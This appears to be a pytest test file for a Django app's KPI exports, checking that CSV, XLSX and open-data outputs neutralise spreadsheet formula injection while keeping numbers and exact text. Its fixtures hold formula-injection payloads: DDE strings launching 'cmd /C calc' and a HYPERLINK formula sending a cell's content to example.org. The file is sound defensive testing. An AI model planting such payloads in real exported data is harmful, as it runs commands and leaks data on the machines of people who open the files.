"""Exports cannot attack their readers (OWASP "CSV injection"): a text cell that a spreadsheet would run as a
formula is written with a leading apostrophe, in the KPI CSV, the KPI .xlsx and the open-data CSV alike; the
.xlsx holds no formula at all; numbers, negative ones too, stay numbers; the JSON keeps the exact text; and
the import reads back exactly what was exported."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from products import exchange
from products.models import KPIValue
from products.spreadsheet import neutralise, restore

from .factories import KPIFactory, KPIValueFactory, PeriodFactory

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "comment": '=HYPERLINK("https://example.org/?d="&A1,"Details")',
    "data_basis": "+1+cmd|' /C calc'!A0",
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NAME, UNIT = "-2+3+cmd|' /C calc'!A0", "\tFälle"


@pytest.fixture
def dangerous_value(db):
    kpi = KPIFactory(code="GEFAHR", name=NAME, unit=UNIT, target_value=Decimal(-10))
    return KPIValueFactory(kpi=kpi, period=PeriodFactory(key="2024"), actual_value=Decimal("-5.5"), **PAYLOADS)


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("url", ["products:export_csv", "opendata:kpi_csv"])
def test_csv_exports_neutralise_formulas_but_keep_numbers(client_for, dangerous_value, url):
    header, row = csv_rows(client_for(None).get(reverse(url)).content)
    cell = dict(zip(header, row, strict=True))
    assert cell["Kommentar"] == "'" + PAYLOADS["comment"]
    assert cell["Datenbasis"] == "'" + PAYLOADS["data_basis"]
    assert cell["Quelle"] == "'" + PAYLOADS["source"]
    assert cell["Kennzahl"] == "'" + NAME and cell["Einheit"] == "'" + UNIT
    assert cell["Istwert"] == "-5,5"  # a number, not text: no apostrophe


def test_xlsx_export_has_no_formula_and_keeps_negative_numbers(client_for, dangerous_value):
    sheet = load_workbook(io.BytesIO(client_for(None).get(reverse("products:export_xlsx")).content)).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert cells["Kommentar"].value == "'" + PAYLOADS["comment"] and cells["Kommentar"].data_type == "s"
    assert cells["Kennzahl"].value == "'" + NAME
    assert cells["Istwert"].value == -5.5 and cells["Istwert"].data_type == "n"


def test_open_data_json_keeps_the_exact_text(client_for, dangerous_value):
    data = json.loads(client_for(None).get(reverse("opendata:kpi_json")).content)["daten"][0]
    assert data["kommentar"] == PAYLOADS["comment"] and data["quelle"] == PAYLOADS["source"]
    assert data["kennzahl"] == NAME and data["istwert"] == -5.5


@pytest.mark.parametrize("url", ["products:export_csv", "products:export_xlsx"])
def test_the_import_reads_back_the_exact_text(client_for, dangerous_value, strategie, url):
    from products.services import kpi_values_import

    exported = client_for(None).get(reverse(url)).content
    KPIValue.objects.all().delete()
    rows, errors = exchange.validate(exchange.read_table(exported))
    assert errors == []
    kpi_values_import(rows=rows, user=strategie)
    value = KPIValue.objects.get()
    assert (value.comment, value.data_basis, value.source) == tuple(PAYLOADS.values())
    assert value.actual_value == Decimal("-5.5")


@given(st.text(max_size=20))
def test_neutralise_is_undone_by_restore_and_never_starts_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
